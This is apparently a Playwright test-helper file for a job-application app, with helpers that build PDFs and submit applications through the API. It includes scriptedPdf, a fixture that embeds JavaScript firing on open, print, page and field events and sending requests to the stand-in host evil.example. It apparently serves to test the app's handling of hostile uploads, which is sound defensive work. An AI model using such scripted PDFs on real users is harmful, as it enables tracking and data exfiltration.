import type { APIRequestContext } from '@playwright/test';
import { expect, type TestHost } from '../fixtures';
import type { Account } from './people';

/**
 * Builds a PDF with a page for each text; `catalog` and `page` are additional entries of those
 * dictionaries.
 */
const makePdf = (pages: readonly string[], { catalog = '', page = '' } = {}): Buffer => {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    `<</Type/Pages/Kids[${pages.map((_, at) => `${4 + at * 2} 0 R`).join(' ')}]/Count ${pages.length}>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...pages.flatMap((text, at) => {
      const content = `BT /F 18 Tf 60 700 Td (${text}) Tj ET`;
      return [
        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents ${5 + at * 2} 0 R/Resources<</Font<</F 3 0 R>>>>${page}>>`,
        `<</Length ${content.length}>>stream\n${content}\nendstream`,
      ];
    }),
  ];
  let body = '%PDF-1.4\n';
  const offsets = objects.map((object, at) => {
    const offset = body.length;
    body += `${at + 1} 0 obj${object}endobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const end = `trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(
    `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}${end}`,
  );
};

/** Builds a PDF with a page for each text. */
export const pdfWith = (...pages: string[]): Buffer => makePdf(pages);

/**
 * Builds a one-page PDF that runs scripts when it is opened, shown, left, printed and clicked, and
 * contacts evil.example.
 */
export const scriptedPdf = (text: string): Buffer => {
  const script = (from: string): string =>
    `<</S/JavaScript/JS(app.alert\\('${from}'\\); app.launchURL\\('http://evil.example/${from}'\\); this.submitForm\\('http://evil.example/${from}'\\);)>>`;
  const events = (from: string, ...names: string[]): string =>
    `/AA<<${names.map((name) => `/${name} ${script(`${from}-${name}`)}`).join('')}>>`;
  const field = `<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(x)/F 4/Rect[60 600 300 640]${events('field', 'E', 'Fo', 'F', 'C', 'V')}>>`;
  const link =
    '<</Type/Annot/Subtype/Link/Rect[0 0 612 600]/A<</S/URI/URI(http://evil.example/link)>>>>';
  return makePdf([text], {
    catalog: `/OpenAction ${script('open')}${events('document', 'WC', 'WS', 'WP', 'DP')}/Names<</JavaScript<</Names[(run) ${script('names')}]>>>>`,
    page: `${events('page', 'O', 'C')}/Annots[${field}${link}]`,
  });
};

type Sent = { jobId: string; note?: string; cv?: { name: string; bytes: Buffer } };

/**
 * Applies for a job on the app's own host without the form, uploading a CV first if given. Returns
 * the application's id.
 */
export const applyFor = async (
  request: APIRequestContext,
  { origin }: TestHost,
  { username, password }: Account,
  { jobId, note = '', cv }: Sent,
): Promise<string> => {
  const login = await request.post(`${origin}/api/jobseeker/jobseekers/login`, {
    data: { usernamejobseek: username, passwordnamejobseek: password },
  });
  expect(login.status(), await login.text()).toBe(200);
  const headers = { 'x-session': `jobseeker:${encodeURIComponent(username)}` };
  let resumeId: string | undefined;
  if (cv) {
    const upload = await request.post(`${origin}/api/resumes`, {
      headers,
      multipart: {
        file: { name: cv.name, mimeType: 'application/octet-stream', buffer: cv.bytes },
      },
    });
    expect(upload.status(), await upload.text()).toBe(201);
    resumeId = ((await upload.json()) as { _id: string })._id; // the contract's Resume
  }
  const response = await request.post(`${origin}/api/applications`, {
    headers,
    data: { jobId, message: 'I hereby apply.', note, ...(resumeId && { resumeId }) },
  });
  expect(response.status(), await response.text()).toBe(201);
  return ((await response.json()) as { _id: string })._id; // the contract's Application
};
